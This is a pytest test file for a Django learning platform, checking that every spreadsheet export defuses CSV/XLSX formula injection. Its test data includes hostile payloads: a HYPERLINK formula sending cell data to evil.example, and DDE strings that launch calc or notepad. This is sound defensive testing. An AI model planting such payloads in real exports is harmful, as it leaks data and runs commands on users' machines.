"""No spreadsheet the platform writes runs a formula a learner, an editor or an import typed.

The rule (`lms.spreadsheets.formula_safe`, used by every export): a *text* cell that starts,
or starts after leading spaces, with one of ``= + - @``, a tab or a carriage return (OWASP's
list for CSV injection) is written to CSV with a leading apostrophe; in XLSX every text cell is
stored as a string (type ``s``), never as a formula, and keeps its exact text. Numbers are
not text: a real number (a score, a count) stays a number in both formats, negative or not.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from certificates import services as certificate_services
from courses import services as course_services
from courses.models import AttendanceStatus
from lms import services as lms_services
from lms.spreadsheets import FORMULA_STARTS, csv_bytes, formula_safe, xlsx_bytes
from quizzes import poll_services
from quizzes import services as quiz_services
from tests.factories import (
    LearnerProfileFactory,
    UnitFactory,
    make_course,
    make_poll,
    make_question,
    make_quiz,
    make_session,
)
from tests.quizzes.helpers import answers

# One payload per field a person controls; each is a formula in Excel or LibreOffice.
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
POSITION = "+cmd|' /C calc'!A0"
EMPLOYEE_CODE = "@SUM(1+1)"
UNIT_NAME = "-2+3+cmd|' /C calc'!A0"
COURSE_TITLE = "=1+1 Khóa học"
SESSION_TITLE = "@Buổi học"
REMARK = "=cmd|' /C notepad'!A0"
QUESTION = "+1+1 Câu hỏi?"
POLL_QUESTION = "=2*3"
POLL_CHOICE = "-1+1"
PAYLOADS = (NAME, POSITION, EMPLOYEE_CODE, UNIT_NAME, COURSE_TITLE, REMARK, QUESTION)


# --- the rule itself ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "   +1",
        "\u00a0=1+1",
        "\n=1+1",
        "-5",
    ],
)
def test_text_that_starts_a_formula_gets_an_apostrophe_in_csv(text):
    assert formula_safe(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig"))))
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "a=1", "Điểm: -5", "", "'=1", 0, -5, -2.5])
def test_anything_else_is_written_as_it_is(value):
    assert formula_safe(value) == value


def test_numbers_stay_numbers_and_text_stays_text_in_xlsx():
    data = xlsx_bytes([["=1+1", "+1", "-1+2", "@A1", "\t=1", " =1", -5, 2.5, "-5"]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows())[0]
    assert [cell.value for cell in cells] == [
        "=1+1",
        "+1",
        "-1+2",
        "@A1",
        "\t=1",
        " =1",
        -5,
        2.5,
        "-5",
    ]
    assert [cell.data_type for cell in cells] == ["s"] * 6 + ["n", "n", "s"]
    assert_no_formula(data)


# --- every export of the platform ---------------------------------------------------------


def assert_no_formula(xlsx: bytes) -> None:
    """No worksheet of `xlsx` holds a formula element, and openpyxl reads no formula cell."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    for sheet in openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value.lstrip().startswith(FORMULA_STARTS):
                    assert cell.data_type == "s", cell.value


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            starts_formula = cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(
                FORMULA_STARTS
            )
            assert not starts_formula or is_number(cell), repr(cell)
    return rows


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def data(db, superuser):
    """A learner, a course, a session, a quiz attempt, a certificate and a poll, whose every
    text a person typed is a formula."""
    unit = UnitFactory(code="SO-CSV", name=UNIT_NAME)
    profile = LearnerProfileFactory(
        unit=unit, full_name=NAME, position=POSITION, employee_code=EMPLOYEE_CODE
    )
    user = profile.user
    course = make_course(lessons=1, title=COURSE_TITLE, delivery_mode="blended")
    lms_services.enroll(user=user, course=course)
    session = make_session(course, title=SESSION_TITLE)
    course_services.register(session=session, user=user)
    course_services.mark_attendance(
        session=session,
        learner_id=user.pk,
        status=AttendanceStatus.PRESENT,
        remark=REMARK,
        by=superuser,
    )
    quiz = make_quiz(course, [make_question(QUESTION)])
    attempt = quiz_services.start_attempt(quiz=quiz, user=user)
    quiz_services.submit_attempt(attempt_id=attempt.pk, user=user, answers=answers(attempt, 0))
    enrollment = lms_services.record_lesson_completed(
        user=user, course=course, lesson=course.lessons()[0]
    )
    certificate_services.issue_certificate(
        enrollment_id=enrollment.pk, template=certificate_services.get_or_create_default_template()
    )
    poll = make_poll(POLL_QUESTION, choices=(POLL_CHOICE, "Không"))
    poll_services.vote(poll=poll, choice_id=poll.choices.first().pk, user=user, voter_key=None)
    return {"course": course, "session": session, "quiz": quiz, "poll": poll, "unit": unit}


#: (name, URL name, URL args, query parameters from the data, payloads the export must hold)
EXPORTS = [
    ("learners", "cds_lms_learners:index", (), {}, (NAME, POSITION, EMPLOYEE_CODE, UNIT_NAME)),
    ("enrollments", "cds_courses_enrollments:index", (), {}, (NAME, COURSE_TITLE)),
    ("certificates", "cds_certificates:index", (), {}, (NAME, COURSE_TITLE)),
    ("attendance", "cds_courses_attendance:index", (), {}, (NAME, REMARK, SESSION_TITLE)),
    ("attempts", "cds_quizzes_attempts:index", (), {}, (NAME,)),
    ("questions", "cds_quizzes_questions:list", (), {}, (QUESTION,)),
    ("learner-progress", "cds_lms_reports:learner_progress", (), {}, (NAME, COURSE_TITLE)),
    ("course-summary", "cds_lms_reports:course_summary", (), {}, (COURSE_TITLE,)),
    ("item-analysis", "cds_quizzes_item_analysis:index", (), {"quiz": "quiz"}, (QUESTION,)),
    (
        "poll-results",
        "cds_quizzes_reports:poll_results",
        (),
        {"poll": "poll"},
        (POLL_QUESTION, POLL_CHOICE),
    ),
    ("session-attendance", "courses:attendance_export", ("session",), {}, (NAME, REMARK)),
]


def export_url(data, url_name, args, params, fmt):
    if url_name == "courses:attendance_export":
        return reverse(url_name, args=[data["session"].pk, fmt]), {}
    query = {key: data[value].pk for key, value in params.items()}
    return reverse(url_name, args=[data[arg].pk for arg in args]), {**query, "export": fmt}


@pytest.mark.parametrize(
    ("url_name", "args", "params", "payloads"),
    [e[1:] for e in EXPORTS],
    ids=[e[0] for e in EXPORTS],
)
def test_every_export_writes_formulas_as_text(
    admin_login, superuser, data, url_name, args, params, payloads
):
    client = admin_login(superuser)

    url, query = export_url(data, url_name, args, params, "csv")
    rows = assert_csv_safe(body(client.get(url, query)).decode("utf-8-sig"))
    cells = {cell for row in rows for cell in row}
    for payload in payloads:
        # The payload is there, as text: the apostrophe is the only change.
        assert any(cell == "'" + payload or cell.startswith("'" + payload) for cell in cells), (
            payload,
            rows,
        )

    url, query = export_url(data, url_name, args, params, "xlsx")
    xlsx = body(client.get(url, query))
    assert_no_formula(xlsx)
    values = {
        cell.value
        for sheet in openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    }
    for payload in payloads:
        assert any(isinstance(v, str) and v.startswith(payload) for v in values), payload


def test_every_spreadsheet_export_view_of_the_project_is_formula_safe():
    """A new listing or report with Wagtail's export must take `FormulaSafeExportMixin`."""
    from django.urls import URLPattern, URLResolver, get_resolver
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from lms.admin.listings import FormulaSafeExportMixin

    def views(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from views(pattern.url_patterns)
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class is not None:
                    yield view_class, getattr(pattern.callback, "view_initkwargs", {})

    project = ("lms", "courses", "quizzes", "certificates", "home")
    exporting = {
        view
        for view, initkwargs in views(get_resolver().url_patterns)
        if issubclass(view, SpreadsheetExportMixin)
        and view.__module__.startswith(project)
        # Views that export: a `list_export` (on the class, or given by a viewset), or one
        # built in `setup()` from `base_export` (the reports whose columns come from hooks).
        and (
            initkwargs.get("list_export") or view.list_export or getattr(view, "base_export", None)
        )
    }
    assert len(exporting) >= 10
    unsafe = [view for view in exporting if not issubclass(view, FormulaSafeExportMixin)]
    assert unsafe == []
